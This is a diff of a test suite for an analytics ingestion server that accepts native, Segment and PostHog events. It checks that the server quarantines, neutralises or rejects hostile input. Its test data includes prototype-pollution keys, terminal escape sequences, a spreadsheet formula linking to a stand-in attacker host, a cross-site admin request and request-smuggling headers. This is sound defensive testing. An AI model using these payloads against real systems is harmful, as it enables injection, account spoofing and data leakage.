@@ -105,7 +105,16 @@ function corpus(key: string, revoked: string): [string, (m: string) => Case][] {
       status: 200,
       stored: 1,
     })],
-    ['lone UTF-16 surrogates', (m) => ({ path: '/v1/events', headers: K, body: `[{"message_id":"${m}","timestamp":"${ISO}","account_id":"acc_h","action":"closed","object":"conversation","place":"\\udc00","metadata":{"s":"\\ud800x"}}]`, status: 200, stored: 1 })],
+    ['a lone surrogate in the place: quarantined', (m) => ({ path: '/v1/events', headers: K, body: `[{"message_id":"${m}","timestamp":"${ISO}","account_id":"acc_h","action":"closed","object":"conversation","place":"\\udc00"}]`, status: 200, quarantine: ['invalid_text'] })],
+    ['lone surrogates in metadata keys and values: stored, made U+FFFD', (m) => ({ path: '/v1/events', headers: K, body: `[{"message_id":"${m}","timestamp":"${ISO}","account_id":"acc_h","action":"closed","object":"conversation","metadata":{"s":"\\ud800x","k\\udfff":["\\udc00"]}}]`, status: 200, stored: 1 })],
+    ['two account ids differing in a lone surrogate: both quarantined, never merged', (m) => ({ path: '/v1/events', headers: K, body: [native(`${m}a`, { account_id: 'acc_\ud800' }), native(`${m}b`, { account_id: 'acc_\udfff' })], status: 200, reply: { quarantined: 2 }, quarantine: ['invalid_text', 'invalid_text'] })],
+    ['two message ids differing in a lone surrogate', (m) => ({ path: '/v1/events', headers: K, body: [native(`${m}\ud800`), native(`${m}\udbff`)], status: 200, reply: { quarantined: 2 }, quarantine: ['invalid_text', 'invalid_text'] })],
+    ['a lone surrogate in an anonymous id', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { anonymous_id: '\udfffanon' })], status: 200, quarantine: ['invalid_text'] })],
+    ['a lone surrogate in a Segment userId', (m) => ({ path: '/v1/batch', headers: basic(key), body: { batch: [segTrack(m, { userId: 'u\udfff' })] }, status: 200, quarantine: ['invalid_text'] })],
+    ['a lone surrogate in a Segment event name', (m) => ({ path: '/v1/batch', headers: basic(key), body: { batch: [segTrack(m, { event: 'Report Exported\ud800' })] }, status: 200, quarantine: ['invalid_text'] })],
+    ['a lone surrogate in a PostHog distinct_id', (m) => ({ path: '/batch', body: { api_key: key, batch: [phEvent(m, { distinct_id: 'u\ud800' })] }, status: 200, quarantine: ['invalid_text'] })],
+    ['a lone surrogate in a PostHog group', (m) => ({ path: '/batch', body: { api_key: key, batch: [phEvent(m, { properties: { $groups: { company: 'acc\udc00' } } })] }, status: 200, quarantine: ['invalid_text'] })],
+    ['a lone surrogate in a group call name', (m) => ({ path: '/v1/group', headers: basic(key), body: { messageId: m, groupId: `${m}acc`, traits: { name: 'n\ud800' } }, status: 200, quarantine: ['invalid_text'] })],
 
     // --- shape ---------------------------------------------------------------------------------
     ['nesting 100,000 levels deep', (m) => ({ path: '/v1/events', headers: K, body: '['.repeat(100_000) + `"${m}"` + ']'.repeat(100_000), status: 400, error: /deeper than 32/, quarantine: ['too_deep'] })],
@@ -137,6 +146,48 @@ function corpus(key: string, revoked: string): [string, (m: string) => Case][] {
     ['a PostHog form post without data', () => ({ path: '/e/', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'foo=bar', status: 400, error: /data field/ })],
     ['a PostHog form post whose data is not base64 JSON', () => ({ path: '/e/', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'data=!!!notbase64', status: 400, error: /data is not valid JSON/ })],
     ['duplicate message ids inside one batch: stored once', (m) => ({ path: '/v1/events', headers: K, body: [native(m), native(m), native(m)], status: 200, reply: { accepted: 3 }, stored: 1 })],
+    ['__proto__ naming the account in native fields: not read as one', (m) => ({
+      path: '/v1/events',
+      headers: K,
+      body: `[{"message_id":"${m}","timestamp":"${ISO}","action":"closed","object":"conversation","__proto__":{"account_id":"acc_evil"}}]`,
+      status: 200,
+      quarantine: ['missing_field'],
+    })],
+    ['metadata keys named __proto__, constructor and toString: stored as data', (m) => ({
+      path: '/v1/events',
+      headers: K,
+      body: `[{"message_id":"${m}","timestamp":"${ISO}","account_id":"acc_h","action":"closed","object":"conversation","metadata":{"__proto__":{"polluted":true},"constructor":"c","toString":"t"}}]`,
+      status: 200,
+      stored: 1,
+    })],
+    ['__proto__ naming the account in Segment properties and context: not read as one', (m) => ({
+      path: '/v1/batch',
+      headers: basic(key),
+      body: `{"batch":[{"type":"track","messageId":"${m}1","timestamp":"${ISO}","userId":"${m}stranger","event":"Report Exported","properties":{"__proto__":{"account_id":"acc_evil"}}},{"type":"track","messageId":"${m}2","timestamp":"${ISO}","userId":"${m}stranger","event":"Report Exported","context":{"__proto__":{"groupId":"acc_evil"}}}]}`,
+      status: 200,
+      reply: { quarantined: 2 },
+      quarantine: ['missing_field', 'missing_field'],
+    })],
+    ['__proto__ naming the account in PostHog properties: not read as one', (m) => ({
+      path: '/batch',
+      body: `{"api_key":"${key}","batch":[{"event":"Report Exported","uuid":"${m}","distinct_id":"${m}stranger","timestamp":"${ISO}","properties":{"__proto__":{"account_id":"acc_evil","$groups":{"company":"acc_evil"}}}}]}`,
+      status: 200,
+      quarantine: ['missing_field'],
+    })],
+    ['__proto__ carrying facts in Segment group and identify traits: not read as facts', (m) => ({
+      path: '/v1/batch',
+      headers: basic(key),
+      body: `{"batch":[{"type":"group","messageId":"${m}g","groupId":"${m}acc","traits":{"__proto__":{"plan":"enterprise","seats":500}}},{"type":"identify","messageId":"${m}i","userId":"${m}user","traits":{"__proto__":{"company":{"id":"acc_evil"}}}}]}`,
+      status: 200,
+      reply: { accepted: 2 },
+    })],
+    ['a key given twice in one object: the last one counts', (m) => ({
+      path: '/v1/events',
+      headers: K,
+      body: `[{"message_id":"${m}","timestamp":"${ISO}","account_id":"acc_first","action":"closed","object":"conversation","account_id":"acc_last"}]`,
+      status: 200,
+      stored: 1,
+    })],
     ['__proto__ and constructor keys', (m) => ({
       path: '/v1/track',
       body: `{"writeKey":"${key}","__proto__":{"polluted":true},"messageId":"${m}","event":"Report Exported","groupId":"acc_h","timestamp":"${ISO}","properties":{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}}`,
@@ -145,12 +196,15 @@ function corpus(key: string, revoked: string): [string, (m: string) => Case][] {
     })],
 
     // --- fields --------------------------------------------------------------------------------
-    ['NUL byte in the action', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { action: 'clo\u0000sed' })], status: 200, reply: { quarantined: 1 }, quarantine: ['invalid_field'] })],
-    ['NUL byte in the account id', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { account_id: 'acc\u0000' })], status: 200, quarantine: ['invalid_field'] })],
-    ['NUL byte in the message id', (m) => ({ path: '/v1/events', headers: K, body: [native(`${m}\u0000`)], status: 200, quarantine: ['invalid_field'] })],
-    ['NUL bytes in a Segment event name', (m) => ({ path: '/v1/batch', headers: basic(key), body: { batch: [segTrack(m, { event: 'Report\u0000 Exported' })] }, status: 200, quarantine: ['invalid_field'] })],
+    ['NUL byte in the action', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { action: 'clo\u0000sed' })], status: 200, reply: { quarantined: 1 }, quarantine: ['invalid_text'] })],
+    ['NUL byte in the account id', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { account_id: 'acc\u0000' })], status: 200, quarantine: ['invalid_text'] })],
+    ['NUL byte in the message id', (m) => ({ path: '/v1/events', headers: K, body: [native(`${m}\u0000`)], status: 200, quarantine: ['invalid_text'] })],
+    ['NUL bytes in a Segment event name', (m) => ({ path: '/v1/batch', headers: basic(key), body: { batch: [segTrack(m, { event: 'Report\u0000 Exported' })] }, status: 200, quarantine: ['invalid_text'] })],
+    ['a C1 control (CSI) in a user id', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { user_id: 'u\u009b31m' })], status: 200, quarantine: ['invalid_text'] })],
+    ['ESC and BEL in a group name (a terminal title): quarantined', (m) => ({ path: '/v1/group', headers: basic(key), body: { messageId: m, groupId: `${m}acc`, traits: { name: '\u001b]0;pwned-title\u0007' } }, status: 200, quarantine: ['invalid_text'] })],
+    ['ESC in a PostHog group key', (m) => ({ path: '/batch', body: { api_key: key, batch: [{ event: '$groupidentify', uuid: m, distinct_id: 'u_h', properties: { $group_type: 'company', $group_key: 'acc\u001b[2J' } }] }, status: 200, quarantine: ['invalid_text'] })],
     ['NUL bytes in metadata keys and values: stored as data', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { metadata: { 'k\u0000': 'v\u0000x', n: '\u0000' } })], status: 200, reply: { accepted: 1 }, stored: 1 })],
-    ['a newline and a tab in the place', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { place: 'in\tbox\n' })], status: 200, quarantine: ['invalid_field'] })],
+    ['a newline and a tab in the place', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { place: 'in\tbox\n' })], status: 200, quarantine: ['invalid_text'] })],
     ['action of the wrong type (boolean)', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { action: true })], status: 200, quarantine: ['invalid_field'] })],
     ['object of the wrong type (object)', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { object: { name: 'x' } })], status: 200, quarantine: ['invalid_field'] })],
     ['account id of the wrong type (array)', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { account_id: ['acc_h'] })], status: 200, quarantine: ['invalid_field'] })],
@@ -159,6 +213,8 @@ function corpus(key: string, revoked: string): [string, (m: string) => Case][] {
     ['metadata of the wrong type (array)', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { metadata: ['a'] })], status: 200, quarantine: ['invalid_field'] })],
     ['metadata of the wrong type (string)', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { metadata: 'a=1' })], status: 200, quarantine: ['invalid_field'] })],
     ['count of the wrong type', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { count: -3 })], status: 200, quarantine: ['invalid_field'] })],
+    ['a count of "0x10" is not read as 16', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { count: '0x10' })], status: 200, quarantine: ['invalid_field'] })],
+    ['a count of "Infinity"', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { count: 'Infinity' })], status: 200, quarantine: ['invalid_field'] })],
     ['timestamp of the wrong type (object)', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { timestamp: { iso: ISO } })], status: 200, quarantine: ['invalid_timestamp'] })],
     ['numbers as strings and strings as numbers: read as such', (m) => ({ path: '/v1/events', headers: K, body: [native(m, { count: '3', account_id: 123, place: 7 })], status: 200, reply: { accepted: 1 }, stored: 1 })],
     ['missing action and object', (m) => ({ path: '/v1/events', headers: K, body: [{ message_id: m, timestamp: ISO, account_id: 'acc_h' }], status: 200, quarantine: ['missing_field'] })],
@@ -196,15 +252,20 @@ function corpus(key: string, revoked: string): [string, (m: string) => Case][] {
     ['a Segment call without a type or event', (m) => ({ path: '/v1/batch', headers: basic(key), body: { batch: [{ messageId: m, userId: 'u_h' }] }, status: 200, quarantine: ['invalid_field'] })],
     ['a Segment alias: nothing to store', (m) => ({ path: '/v1/alias', headers: basic(key), body: { messageId: m, userId: 'u_h', previousId: 'anon' }, status: 200, reply: { skipped: 1 } })],
     ['a Segment track with a one-word name', (m) => ({ path: '/v1/t', headers: basic(key), body: { messageId: m, event: 'Signup', context: { groupId: 'acc_h' } }, status: 200, quarantine: ['invalid_field'] })],
-    ['a Segment track whose context is a string', (m) => ({ path: '/v1/track', headers: basic(key), body: segTrack(m, { context: 'acc_h', userId: `${m}nobody` }), status: 200, quarantine: ['missing_field'] })],
+    ['a Segment track whose context is a string', (m) => ({ path: '/v1/track', headers: basic(key), body: segTrack(m, { context: 'acc_h', userId: `${m}nobody` }), status: 200, quarantine: ['invalid_field'] })],
     ['a Segment identify without a userId', (m) => ({ path: '/v1/identify', headers: basic(key), body: { messageId: m, anonymousId: 'a', traits: {} }, status: 200, quarantine: ['missing_field'] })],
     ['a Segment group with negative seats', (m) => ({ path: '/v1/g', headers: basic(key), body: { messageId: m, groupId: 'acc_h', traits: { seats: -5 } }, status: 200, quarantine: ['invalid_field'] })],
+    ['a Segment group with 3,000,000,000 seats (beyond the store\'s column)', (m) => ({ path: '/v1/g', headers: basic(key), body: { messageId: m, groupId: 'acc_h', traits: { seats: 3_000_000_000 } }, status: 200, quarantine: ['invalid_field'] })],
+    ['a Segment group with seats of "0x10"', (m) => ({ path: '/v1/g', headers: basic(key), body: { messageId: m, groupId: 'acc_h', traits: { seats: '0x10' } }, status: 200, quarantine: ['invalid_field'] })],
+    ['Segment properties that are an array: quarantined, not dropped', (m) => ({ path: '/v1/batch', headers: basic(key), body: { batch: [segTrack(m, { properties: ['state', 'resolved'] })] }, status: 200, quarantine: ['invalid_field'] })],
+    ['formula cells in a group call: stored as data (CSV exports neutralise them)', (m) => ({ path: '/v1/group', headers: basic(key), body: { messageId: m, groupId: `=HYPERLINK("http://evil.example/${m}","x")`, traits: { name: `@SUM(1+1)${m}`, plan: '+pro' } }, status: 200, reply: { accepted: 1 } })],
     ['Segment text/plain bodies are read as JSON', (m) => ({ path: '/v1/batch', headers: { ...basic(key), 'content-type': 'text/plain' }, body: JSON.stringify({ batch: [segTrack(m)] }), status: 200, stored: 1 })],
     ['PostHog $autocapture', (m) => ({ path: '/batch', body: { api_key: key, batch: [phEvent(m, { event: '$autocapture' })] }, status: 200, reply: { quarantined: 1 }, quarantine: ['system_event'] })],
     ['PostHog $pageleave and $feature_flag_called', (m) => ({ path: '/i/v0/e/', body: [phEvent(`${m}a`, { event: '$pageleave', api_key: key }), phEvent(`${m}b`, { event: '$feature_flag_called' })], status: 200, quarantine: ['system_event', 'system_event'] })],
     ['PostHog event without a name', (m) => ({ path: '/capture/', body: { api_key: key, uuid: m, distinct_id: 'u_h' }, status: 200, quarantine: ['missing_field'] })],
     ['PostHog $pageview with no account', (m) => ({ path: '/e', body: { token: key, event: '$pageview', uuid: m, distinct_id: `${m}stranger` }, status: 200, quarantine: ['missing_field'] })],
-    ['PostHog properties that are an array', (m) => ({ path: '/capture', body: { api_key: key, ...phEvent(m, { properties: ['x'], distinct_id: `${m}stranger` }) }, status: 200, quarantine: ['missing_field'] })],
+    ['PostHog properties that are an array', (m) => ({ path: '/capture', body: { api_key: key, ...phEvent(m, { properties: ['x'], distinct_id: `${m}stranger` }) }, status: 200, quarantine: ['invalid_field'] })],
+    ['PostHog $groups that is a string', (m) => ({ path: '/capture', body: { api_key: key, ...phEvent(m, { properties: { $groups: 'acc_h' } }) }, status: 200, quarantine: ['invalid_field'] })],
     ['PostHog $identify with $set that is not an object', (m) => ({ path: '/capture', body: { api_key: key, ...phEvent(m, { event: '$identify', properties: { $set: ['x'] } }) }, status: 200, quarantine: ['invalid_field'] })],
     ['PostHog reply shape', (m) => ({ path: '/batch/', body: { api_key: key, batch: [phEvent(m)] }, status: 200, reply: { accepted: 1 }, stored: 1 })],
 
@@ -224,7 +285,14 @@ function corpus(key: string, revoked: string): [string, (m: string) => Case][] {
     ['an 8 KB path', () => ({ path: '/v1/' + 'a'.repeat(8_000), headers: K, body: [], status: 404 })],
     ['huge headers (20 KB)', (m) => ({ path: '/v1/events', headers: { ...K, 'x-padding': 'p'.repeat(20_000) }, body: [native(m)], status: 431 })],
     ['no Content-Type at all', (m) => ({ path: '/v1/events', headers: { ...K, 'content-type': '' }, body: utf8(JSON.stringify([native(m)])), status: 200, stored: 1 })],
-    ['a multipart Content-Type on a JSON body', (m) => ({ path: '/v1/events', headers: { ...K, 'content-type': 'multipart/form-data; boundary=x' }, body: [native(m)], status: 200, stored: 1 })],
+    ['a multipart Content-Type on a JSON body: not guessed at', (m) => ({ path: '/v1/events', headers: { ...K, 'content-type': 'multipart/form-data; boundary=x' }, body: [native(m)], status: 415, error: /multipart\/form-data.*application\/json/ })],
+    ['an XML Content-Type to Segment', (m) => ({ path: '/v1/batch', headers: { ...basic(key), 'content-type': 'application/xml' }, body: { batch: [segTrack(m)] }, status: 415 })],
+    ['JSON labelled as a form post (curl -d, rudder-sdk-node): read as JSON', (m) => ({ path: '/v1/events', headers: { ...K, 'content-type': 'application/x-www-form-urlencoded' }, body: [native(m)], status: 200, stored: 1 })],
+    ['application/octet-stream to PostHog', (m) => ({ path: '/batch', headers: { 'content-type': 'application/octet-stream' }, body: { api_key: key, batch: [phEvent(m)] }, status: 415 })],
+    ['JSON lines labelled application/x-ndjson', (m) => ({ path: '/v1/events', headers: { ...K, 'content-type': 'application/x-ndjson' }, body: [native(`${m}1`), native(`${m}2`)].map((e) => JSON.stringify(e)).join('\n'), status: 200, stored: 2 })],
+    ['a beacon: text/plain with the key in the body', (m) => ({ path: '/v1/events', headers: { 'content-type': 'text/plain;charset=UTF-8' }, body: { writeKey: key, batch: [native(m)] }, status: 200, stored: 1 })],
+    ['a vendor +json Content-Type with a charset', (m) => ({ path: '/v1/batch', headers: { ...basic(key), 'content-type': 'application/vnd.segment+json; charset=utf-8' }, body: { batch: [segTrack(m)] }, status: 200, stored: 1 })],
+    ['the admin replay as a text/plain form (a cross-site request)', () => ({ path: '/v1/admin/quarantine/replay', headers: { 'content-type': 'text/plain' }, body: '{}', status: 401 })],
     ['a request line that is not HTTP', () => ({ path: '', raw: 'HELLO THERE\r\n\r\n', status: 400 })],
     ['both Content-Length and chunked (smuggling)', () => ({
       path: '',
@@ -430,7 +498,27 @@ describe('hostile and malformed requests', () => {
       assert.deepEqual(numbers, { account_id: '123', place: '7', count: 3 });
       const [deepest] = await q<{ metadata: string }>(sql`SELECT metadata::VARCHAR AS metadata FROM events WHERE message_id = ${marker('32 levels: just deep enough')}`);
       assert.deepEqual(JSON.parse(deepest.metadata), nested(30, 1));
+      // Well-formed, so the engine can query it: a lone surrogate in JSON stops every JSON function.
+      const [lone] = await q<{ s: string }>(sql`SELECT json_extract_string(metadata, '$.s') AS s FROM events WHERE message_id = ${marker('lone surrogates in metadata keys and values: stored, made U+FFFD')}`);
+      assert.equal(lone.s, '\ufffdx');
+      const [protoKeys] = await q<{ metadata: string }>(sql`SELECT metadata::VARCHAR AS metadata FROM events WHERE message_id = ${marker('metadata keys named __proto__, constructor and toString: stored as data')}`);
+      assert.equal(protoKeys.metadata.replace(/\s/g, ''), '{"__proto__":{"polluted":true},"constructor":"c","toString":"t"}');
+      const [twice] = await q<{ account_id: string }>(sql`SELECT account_id FROM events WHERE message_id = ${marker('a key given twice in one object: the last one counts')}`);
+      assert.equal(twice.account_id, 'acc_last');
+      const traitsCase = marker('__proto__ carrying facts in Segment group and identify traits: not read as facts');
+      const [group] = await q<{ plan: string | null; seats: number | null }>(sql`SELECT plan, seats FROM accounts WHERE account_id = ${traitsCase + 'acc'}`);
+      assert.deepEqual(group, { plan: null, seats: null });
+      const [user] = await q<{ account_id: string }>(sql`SELECT account_id FROM users WHERE user_id = ${traitsCase + 'user'}`);
+      assert.equal(user.account_id, '', 'the user is in no account');
     });
+
+    // Formula cells are data in the store and text in every CSV export.
+    const formula = cases.find((c) => c.name.startsWith('formula cells in a group call'))!.m;
+    const csv = await cairn(['milestones', '--format', 'csv', '-w', ws]);
+    assert.equal(csv.code, 0, csv.stderr);
+    const row = csv.stdout.split('\n').find((l) => l.includes(formula))!;
+    assert.ok(row.startsWith(`"'=HYPERLINK(""http://evil.example/${formula}"",""x"")"`), row);
+    assert.ok(row.includes(`,"'+pro",`), row);
 
     // The CLI reads the same quarantine, by reason.
     const listed = await cairn(['quarantine', 'list', '--json', '--limit', '1', '-w', ws]);
